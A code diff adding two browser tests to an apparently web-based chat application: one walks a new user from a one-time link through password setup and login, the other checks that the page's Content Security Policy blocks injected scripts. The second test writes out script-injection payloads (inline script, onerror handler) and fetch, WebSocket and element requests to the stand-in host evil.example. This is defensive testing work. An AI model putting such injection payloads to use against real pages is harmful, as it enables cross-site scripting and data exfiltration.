@@ -180,3 +180,53 @@ def test_a_keyboard_reaches_every_control_and_shows_where_it_is(place: Place, br
         page.locator(".ai-message").last.get_by_role("link", name="[1]").first.focus()
         page.keyboard.press("Enter")
         expect(page.locator("mark").first).to_be_visible(timeout=20_000)
+
+
+def test_a_new_person_sets_a_password_and_logs_in_by_keyboard(place: Place, browser: Browser) -> None:
+    """From the one-time link to the chat: what a browser says of a form's origin is what the page wants to hear."""
+    secret = place.desk.people.add(OF_THIS_MACHINE, "noor")
+    with context(browser, "light", WIDE) as held:
+        page = held.new_page()
+        page.goto(link("localhost", place.port, secret or ""))
+        page.keyboard.type(PASSWORD)
+        page.keyboard.press("Enter")
+        expect(page.locator("input[type=password]")).to_be_visible(timeout=30_000)
+        page.fill("input[name=email], input[type=email], input[type=text]", "noor")
+        page.fill("input[type=password]", PASSWORD)
+        page.keyboard.press("Enter")
+        expect(page.locator("#chat-input")).to_be_visible(timeout=30_000)
+
+
+def test_an_inline_script_does_not_run_on_the_page(place: Place, browser: Browser) -> None:
+    """However it came in: as an element, as a handler, or from another site; the page's own scripts run."""
+    with context(browser, "light", WIDE) as held:
+        page = held.new_page()
+        failed: dict[str, str | None] = {}
+        held.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
+        log_in(page, place)
+        page.evaluate(
+            """() => {
+                const script = document.createElement('script');
+                script.textContent = 'window.attacked = 1';
+                document.body.append(script);
+                const image = document.createElement('img');
+                image.setAttribute('onerror', 'window.attacked = 2');
+                image.src = '/nothing.png';
+                document.body.append(image);
+                for (const [tag, name] of [['img', 'src'], ['iframe', 'src'], ['script', 'src'], ['link', 'href']]) {
+                    const each = document.createElement(tag);
+                    if (tag === 'link') each.rel = 'stylesheet';
+                    each[name] = 'https://evil.example/' + tag;
+                    document.body.append(each);
+                }
+                return new Promise(done => setTimeout(done, 500));
+            }"""
+        )
+        assert page.evaluate("window.attacked") is None
+        assert page.evaluate("fetch('https://evil.example/x').then(() => 'sent', () => 'stopped')") == "stopped"
+        broken = "new Promise(done => { const one = new WebSocket('wss://evil.example'); one.onerror = () => done(1) })"
+        assert page.evaluate(f"(() => {{ try {{ return {broken} }} catch {{ return 1 }} }})()") == 1
+        assert page.evaluate("document.querySelector('#ro-state') !== null")
+        stopped = {url: why for url, why in failed.items() if "evil" in url}
+        assert {"https://evil.example/img", "https://evil.example/script", "https://evil.example/link"} <= set(stopped)
+        assert set(stopped.values()) == {"csp"}, "before anything was sent"
